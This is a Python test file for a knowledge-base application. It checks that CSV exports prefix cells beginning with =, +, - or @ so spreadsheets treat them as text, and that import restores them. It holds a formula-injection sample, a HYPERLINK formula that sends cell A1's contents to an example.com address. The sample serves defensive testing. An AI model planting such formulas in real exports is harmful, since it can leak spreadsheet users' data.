"""Exports that open in Excel keep formula-looking text as text, and import gives it back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlite_utils import Database

from knowledge.entries import Entry
from knowledge.exchange import export_file, import_file
from knowledge.spreadsheet import cell_from_spreadsheet, spreadsheet_cell
from knowledge.store import create_entry, get_entry
from knowledge.turns import record_turn
from knowledge.unanswered import unanswered_csv

HYPERLINK = '=HYPERLINK("http://example.com/?q="&A1,"点这里")'


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+86 123", "'+86 123"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("离婚冷静期多久", "离婚冷静期多久"),
        ("'引号开头", "'引号开头"),
        ("", ""),
    ],
)
def test_cells_that_would_run_are_prefixed_and_restored(text: str, cell: str) -> None:
    assert spreadsheet_cell(text) == cell
    assert cell_from_spreadsheet(cell) == text


def test_a_residents_formula_reaches_the_unanswered_csv_as_text(db: Database) -> None:
    record_turn(db, channel="wx", kind="fallback", resident="wx:someone", text=HYPERLINK)
    text, count = unanswered_csv(db, 10)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert count == 1
    assert rows[1][2] == "'" + HYPERLINK
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_entry_csv_export_neutralises_and_import_restores(db: Database, tmp_path: Path) -> None:
    entry_id = create_entry(
        db,
        Entry(None, "services", "=HYPERLINK(1)是什么", "-这是答案", alternates=["@问法"]),
        by="测试",
    )
    path = tmp_path / "entries.csv"
    export_file(db, path)
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    row = next(r for r in rows if "HYPERLINK" in r["question"])
    assert (row["question"], row["answer"], row["alternates"]) == (
        "'=HYPERLINK(1)是什么",
        "'-这是答案",
        "'@问法",
    )
    result = import_file(db, path, "测试")
    assert result.created == 0 and result.updated == 0
    entry = get_entry(db, entry_id)
    assert entry.question == "=HYPERLINK(1)是什么" and entry.answer == "-这是答案"
